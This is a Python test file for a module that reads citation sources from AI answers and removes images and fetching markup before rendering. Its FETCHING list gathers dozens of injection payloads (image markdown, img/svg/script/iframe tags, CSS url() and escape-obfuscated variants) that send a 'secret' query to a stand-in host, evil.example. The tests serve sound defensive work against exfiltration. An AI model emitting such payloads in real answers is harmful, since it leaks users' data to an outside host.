"""Sources: fields first, then links in the text; http(s) alone, and none twice."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from amber_mcp.api.sources import distinct, links_in, sources_of, without_images
from amber_mcp.api.types import Source

A = "https://wiki.example/a"


def test_openai_annotations_are_read() -> None:
    citation = {"url": A, "title": "Page A", "start_index": 0, "end_index": 4}
    message = {"annotations": [{"type": "url_citation", "url_citation": citation}]}
    assert sources_of(message) == (Source("Page A", A, "annotation"),)


@pytest.mark.parametrize("key", ["sources", "citations"])
@pytest.mark.parametrize(
    ("entry", "title"),
    [
        ({"url": A, "title": "Page A"}, "Page A"),
        ({"link": A, "name": "Page A"}, "Page A"),
        ({"href": A}, A),
        ({"source": A, "filename": "a.pdf"}, "a.pdf"),
        (A, A),
    ],
)
def test_arrays_of_sources_are_read_in_the_forms_that_occur(
    key: str, entry: object, title: str
) -> None:
    assert sources_of({}, {key: [entry]}) == (Source(title, A, "citation"),)


def test_annotations_come_before_citations_and_nothing_comes_twice() -> None:
    message = {"annotations": [{"url": "https://b.example/", "title": "B"}]}
    body = {"sources": [A, "https://b.example/", A]}
    found = sources_of(message, {}, body)
    assert [source.url for source in found] == ["https://b.example/", A]
    assert found[0].origin == "annotation"


@pytest.mark.parametrize(
    "entry",
    [
        "file:///etc/passwd",
        "javascript:alert(1)",
        "data:text/html,x",
        "/relative",
        "https://",
        "https://user:pass@wiki.example/",
        "https://wiki.example/a b",
        "https://wiki.example/" + "a" * 3_000,
        "https://[broken/",
        {"title": "no address"},
        {"url": 5},
        7,
        None,
    ],
)
def test_what_is_no_web_address_is_no_source(entry: object) -> None:
    assert sources_of({"sources": [entry], "annotations": [entry]}) == ()


def test_fields_of_another_type_are_passed_over() -> None:
    assert sources_of({"sources": "none", "citations": {"a": 1}, "annotations": None}) == ()


def test_a_title_is_one_short_line_of_printable_text() -> None:
    (source,) = sources_of({"sources": [{"url": A, "title": "  A\x1b[31m\n page " + "x" * 300}]})
    assert source.title.startswith("A [31m page xxx")
    assert len(source.title) == 200


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("See [the policy](https://wiki.example/p).", [("the policy", "https://wiki.example/p")]),
        ("[a (b)](https://w.example/a_(b)) end", [("a (b)", "https://w.example/a_(b)")]),
        ("[x](<https://w.example/x>)", [("x", "https://w.example/x")]),
        ('[x](https://w.example/x "title")', [("x", "https://w.example/x")]),
        ("[[1]](https://w.example/1)", [("[1]", "https://w.example/1")]),
        ("at https://w.example/x, and", [("https://w.example/x", "https://w.example/x")]),
        ("<https://w.example/x>", [("https://w.example/x", "https://w.example/x")]),
        ("(https://w.example/x).", [("https://w.example/x", "https://w.example/x")]),
        ("[x](mailto:a@b.example) [y](#z) [z](ftp://f.example)", []),
        ("![logo](https://w.example/logo.png)", []),
        ("nothing here", []),
    ],
)
def test_links_in_text(text: str, found: list[tuple[str, str]]) -> None:
    assert [(source.title, source.url) for source in links_in(text)] == found
    assert all(source.origin == "link" for source in links_in(text))


def test_a_link_is_listed_once_under_its_title() -> None:
    text = "https://w.example/x and [the page](https://w.example/x)"
    assert links_in(text) == (Source("the page", "https://w.example/x", "link"),)


def test_the_first_of_two_with_one_address_stays() -> None:
    first, second = Source("1", A, "citation"), Source("2", A, "link")
    assert distinct([first, second]) == (first,)


@pytest.mark.parametrize(
    ("text", "clean"),
    [
        ("![logo](https://w.example/l.png)", "[logo](https://w.example/l.png)"),
        ("![](https://w.example/t?q=secret)", "[](https://w.example/t?q=secret)"),
        ("![a\nb](https://w.example/l.png)", "[a\nb](https://w.example/l.png)"),
        ("![a](//w.example/l.png)", "[a](//w.example/l.png)"),
        ("![a][ref]", "! [a][ref]"),
        ("vec![1, 2, 3][0] and x![0][1]", "vec! [1, 2, 3][0] and x! [0][1]"),
        ("!![a](https://w.example/)", "! [a](https://w.example/)"),
        (r"\![a](https://w.example/)", r"\! [a](https://w.example/)"),
        ("![a [b] c](https://w.example/)", "! [a [b] c](https://w.example/)"),
        ("![foo]\n\n[foo]: https://w.example/", "! [foo]\n\n[foo]: https://w.example/"),
        ("<img src='https://w.example/l.png' alt=x>", "< img src='https://w.example/l.png' alt=x>"),
        ("<IMG\nsrc=x.png>", "< IMG\nsrc=x.png>"),
        ("<image src=x.png>", "< image src=x.png>"),
        ("<svg><image href='x.png'/></svg>", "<svg>< image href='x.png'/></svg>"),
        ("<style>@import '//w.example';</style>", "< style>@import '//w.example';</style>"),
    ],
)
def test_images_become_links_or_text(text: str, clean: str) -> None:
    assert without_images(text) == clean


@pytest.mark.parametrize(
    "text",
    [
        "Great! [link](https://w.example/) <https://w.example/?a=b> <anna@w.example>",
        "<imgx> wow! [a](https://w.example/)",
        "if a < b and b > c, or a <= b",
        "Map<String, List<Integer>> and #include <stdio.h> and <your name>",
        "one<br>two<br/>H<sub>2</sub>O <details open><summary>More</summary></details>",
        "<a href='https://w.example/?a=b&c=d' target=\"_blank\" rel='noopener'>page</a>",
        '<td style="text-align: right" colspan=2>7</td>',
    ],
)
def test_what_fetches_nothing_stays_as_it_is(text: str) -> None:
    assert without_images(text) == text


LEADING_NOWHERE = {"align", "alt", "class", "id", "style", "title", "type", "value", "width"}
RENDERERS = [MarkdownIt("js-default", {"html": html}).render for html in (True, False)]


def pages_with(text: str) -> list[str]:
    """Pages that show `text` as HTML, as Markdown with HTML in it, and as Markdown alone."""
    return [f"<div>{text}</div>", *(render(f"{text}\n") for render in RENDERERS)]


def fetches(page: str) -> bool:
    """Whether a tag of `page` is an image or code, or has an attribute that may lead somewhere."""
    found: list[bool] = []

    class Page(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.append(tag in ("img", "image", "script", "style"))
            for name, value in attrs:
                if name == "style":
                    found.append(bool(re.search(r"[(@\\]", value or "")))
                elif value and (tag, name) != ("a", "href") and "?" not in name:
                    found.append(name not in LEADING_NOWHERE)

    parser = Page()
    parser.feed(page)
    parser.close()
    return any(found)


EVIL = "https://evil.example/x?q=secret"
FETCHING = [
    f"!![a]({EVIL})",
    f"![a [b] c]({EVIL})",
    f"![a\\]b]({EVIL})",
    f"![`]`]({EVIL})",
    f"\\\\![a]({EVIL})",
    f"![{'a' * 600}]({EVIL})",
    f"![foo]\n\n[foo]: {EVIL}",
    f"![foo][]\n\n[foo]: {EVIL}",
    f"!<img src=x>[a]({EVIL})",
    f"<img src={EVIL}",
    f"<img/src={EVIL}>",
    f"<img alt='>' src={EVIL}>",
    f"<image src={EVIL}>",
    f"<svg><image href='{EVIL}'/><use href='{EVIL}'/></svg>",
    f"<svg onload=fetch('{EVIL}')>",
    f"<video poster={EVIL}></video>",
    f"<audio src={EVIL}>",
    f"<picture><source srcset='{EVIL}'></picture>",
    f"<iframe src={EVIL}></iframe>",
    f"<input type=image src={EVIL}>",
    f"<object data={EVIL}></object>",
    f"<embed src={EVIL}>",
    f"<link rel=stylesheet href={EVIL}>",
    f'<link href="{EVIL}" rel="icon">',
    f"<body background={EVIL}>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<style>@import '{EVIL}';</style>",
    f"<script>fetch('{EVIL}')</script>",
    f'<b style="background:url({EVIL})">x</b>',
    f'<b style="background:url&lpar;{EVIL}&rpar;">x</b>',
    f'<b style="background:\\75rl\\28{EVIL}\\29">x</b>',
    f"<b style=background:url({EVIL})>x</b>",
    f"<b title='>' style='background:url({EVIL})'>x</b>",
    f'<b\vtitle="x style=background:url({EVIL})">x</b>',
    f'<b\xa0title="x style=background:url({EVIL})">x</b>',
    f"<div>\n<https:///style=background:url({EVIL})>x\n</div>",
    f"> <b x\n> style='background:url({EVIL})'>x",
    f"> <b class='x'\n> style='background:url({EVIL})'>x",
    f"<div title='x\n\ny'> style=background:url({EVIL})",
    f"<b <i style=background:url({EVIL})>x",
]


@pytest.mark.parametrize("text", FETCHING)
def test_nothing_is_fetched_when_an_answer_is_rendered(text: str) -> None:
    assert any(map(fetches, pages_with(text)))
    assert not any(map(fetches, pages_with(without_images(text))))


SYNTAX = [*"![]()\\`<>/=\"':&|-ab \n\t\v\xa0", "```", "]:", "</", "<!--", "-->", "<![CDATA[", "<?"]
NAMES = ["img", "image", "svg", "style", "script", "href", "src", "title", "url(", "//e", "\n\n"]
PIECES = st.sampled_from([*SYNTAX, *NAMES, "\n> ", "\n- ", *FETCHING])


@given(st.lists(PIECES, max_size=30).map("".join))
def test_nothing_is_fetched_however_an_answer_is_put_together(text: str) -> None:
    clean = without_images(text)
    assert "![" not in clean
    assert not any(map(fetches, pages_with(clean)))
    assert without_images(clean) == clean
    assert re.sub(r"[! ]", "", clean) == re.sub(r"[! ]", "", text)


@pytest.mark.parametrize(
    "piece",
    ["![", "!", "<img", "<img ", "<", "<a", "<a ", "<a href='", '<a title="x" ', "<b x= ", "![a]("],
)
def test_images_are_found_in_time_in_hostile_text(piece: str) -> None:
    text = piece * (400_000 // len(piece))
    began = time.process_time()
    without_images(text)
    without_images(piece[:2] + " " * 200_000 + piece[2:])
    without_images(piece + " title='x'" * 40_000)
    assert time.process_time() - began < 5


def test_links_are_found_in_time_in_hostile_text() -> None:
    assert links_in("[" * 20_000 + "](https://" + "(" * 20_000) == ()
